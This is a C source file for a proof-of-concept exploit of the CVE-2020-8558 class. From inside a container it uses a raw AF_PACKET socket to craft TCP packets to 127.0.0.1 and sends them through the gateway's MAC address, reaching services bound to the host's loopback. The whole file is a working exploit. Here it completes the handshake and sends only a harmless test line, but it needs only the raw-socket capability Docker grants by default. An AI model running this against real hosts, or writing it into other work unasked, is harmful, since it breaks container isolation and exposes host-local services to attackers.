/* lo-syn PORT: from inside a container, open a TCP connection to the HOST's 127.0.0.1:PORT
 * (the CVE-2020-8558 class). Needs only CAP_NET_RAW, which Docker gives every container.
 *
 * The container's own kernel would route 127.0.0.1 to its own loopback, so the packets are built
 * by hand and sent at layer 2 (AF_PACKET) to the gateway's MAC address: the host receives an IP
 * packet for 127.0.0.1 on its bridge. With route_localnet=1 on that bridge the host accepts it as
 * local traffic and its loopback service answers; this program completes the handshake by hand,
 * sends one line, and prints what it got. Exit 0: connected; 1: no answer; 2: setup failed.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
    const uint8_t *p = data;
    for (; len > 1; len -= 2, p += 2)
        sum += (p[0] << 8) | p[1];
    if (len)
        sum += p[0] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons(~sum & 0xffff);
}

static uint32_t gateway(void)
{   /* the default route's gateway, from /proc/net/route (hex, network order) */
    char line[256], ifn[32];
    unsigned dst, gw, flags;
    FILE *f = fopen("/proc/net/route", "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%31s %x %x %x", ifn, &dst, &gw, &flags) == 4 && dst == 0 && gw) {
            fclose(f);
            return gw;
        }
    fclose(f);
    return 0;
}

static int gateway_mac(uint32_t gw, uint8_t mac[6])
{   /* its MAC from the ARP cache (the caller pinged it first) */
    char line[256], ip[32], hw[32];
    struct in_addr a = {gw};
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f)
        return -1;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%31s %*s %*s %31s", ip, hw) == 2 && strcmp(ip, inet_ntoa(a)) == 0) {
            fclose(f);
            return sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
                          &mac[5]) == 6 ? 0 : -1;
        }
    fclose(f);
    return -1;
}

struct conn {
    int fd, ifindex;
    uint8_t me[6], gw[6];
    uint32_t src, dst;
    uint16_t sport, dport;
};

static int send_tcp(struct conn *c, uint32_t seq, uint32_t ack, uint8_t flags, const char *data)
{
    uint8_t frame[1514] = {0};
    size_t dlen = data ? strlen(data) : 0;
    struct ether_header *eth = (void *)frame;
    struct iphdr *ip = (void *)(frame + sizeof *eth);
    struct tcphdr *tcp = (void *)((uint8_t *)ip + sizeof *ip);
    uint8_t pseudo[12 + sizeof *tcp + 256];
    memcpy(eth->ether_dhost, c->gw, 6);
    memcpy(eth->ether_shost, c->me, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    ip->version = 4, ip->ihl = 5, ip->ttl = 64, ip->protocol = IPPROTO_TCP;
    ip->tot_len = htons(sizeof *ip + sizeof *tcp + dlen);
    ip->saddr = c->src, ip->daddr = c->dst;
    ip->check = csum(ip, sizeof *ip, 0);
    tcp->source = htons(c->sport), tcp->dest = htons(c->dport);
    tcp->seq = htonl(seq), tcp->ack_seq = htonl(ack), tcp->doff = 5;
    tcp->syn = !!(flags & 1), tcp->ack = !!(flags & 2), tcp->psh = !!(flags & 4);
    tcp->window = htons(64240);
    memcpy((uint8_t *)tcp + sizeof *tcp, data ? data : "", dlen);
    memcpy(pseudo, &ip->saddr, 4);
    memcpy(pseudo + 4, &ip->daddr, 4);
    pseudo[8] = 0, pseudo[9] = IPPROTO_TCP;
    pseudo[10] = (sizeof *tcp + dlen) >> 8, pseudo[11] = (sizeof *tcp + dlen) & 0xff;
    memcpy(pseudo + 12, tcp, sizeof *tcp + dlen);
    tcp->check = csum(pseudo, 12 + sizeof *tcp + dlen, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = c->ifindex, .sll_halen = 6};
    memcpy(to.sll_addr, c->gw, 6);
    size_t len = sizeof *eth + sizeof *ip + sizeof *tcp + dlen;
    return sendto(c->fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len ? 0 : -1;
}

int main(int argc, char **argv)
{
    struct conn c = {.dst = htonl(INADDR_LOOPBACK)};
    struct ifreq ifr = {0};
    if (argc != 2)
        return fprintf(stderr, "usage: lo-syn PORT\n"), 2;
    c.dport = atoi(argv[1]);
    c.sport = 40000 + getpid() % 20000;
    c.fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    if (c.fd < 0)
        return perror("socket(AF_PACKET) needs CAP_NET_RAW"), 2;
    strcpy(ifr.ifr_name, "eth0");
    if (ioctl(c.fd, SIOCGIFINDEX, &ifr) < 0)
        return perror("eth0"), 2;
    c.ifindex = ifr.ifr_ifindex;
    ioctl(c.fd, SIOCGIFHWADDR, &ifr);
    memcpy(c.me, ifr.ifr_hwaddr.sa_data, 6);
    int udp = socket(AF_INET, SOCK_DGRAM, 0);
    ioctl(udp, SIOCGIFADDR, &ifr);
    c.src = ((struct sockaddr_in *)&ifr.ifr_addr)->sin_addr.s_addr;
    uint32_t gw = gateway();
    if (!gw || gateway_mac(gw, c.gw) < 0)
        return fprintf(stderr, "no gateway in the ARP cache\n"), 2;
    struct timeval tv = {.tv_sec = 3};
    setsockopt(c.fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    uint32_t seq = 0x1000 + getpid();
    if (send_tcp(&c, seq, 0, 1, NULL) < 0)
        return perror("sendto"), 2;
    printf("SYN sent to 127.0.0.1:%u through the gateway's MAC\n", c.dport);
    uint8_t buf[2048];
    for (;;) {
        ssize_t n = recv(c.fd, buf, sizeof buf, 0);
        if (n < 0) {
            printf("no answer from the host's 127.0.0.1:%u\n", c.dport);
            return 1;
        }
        struct iphdr *ip = (void *)(buf + sizeof(struct ether_header));
        struct tcphdr *tcp = (void *)((uint8_t *)ip + ip->ihl * 4);
        if (n < (ssize_t)(sizeof(struct ether_header) + 40) || ip->protocol != IPPROTO_TCP || ip->saddr != c.dst ||
            ntohs(tcp->source) != c.dport || ntohs(tcp->dest) != c.sport)
            continue;
        if (tcp->rst) {
            printf("RST from the host's 127.0.0.1:%u (reached, nothing listening)\n", c.dport);
            return 0;
        }
        if (tcp->syn && tcp->ack) {
            uint32_t theirs = ntohl(tcp->seq) + 1;
            send_tcp(&c, seq + 1, theirs, 2, NULL);
            send_tcp(&c, seq + 1, theirs, 2 | 4, "hello from inside a container\n");
            printf("CONNECTED to the host's 127.0.0.1:%u\n", c.dport);
            return 0;
        }
    }
}
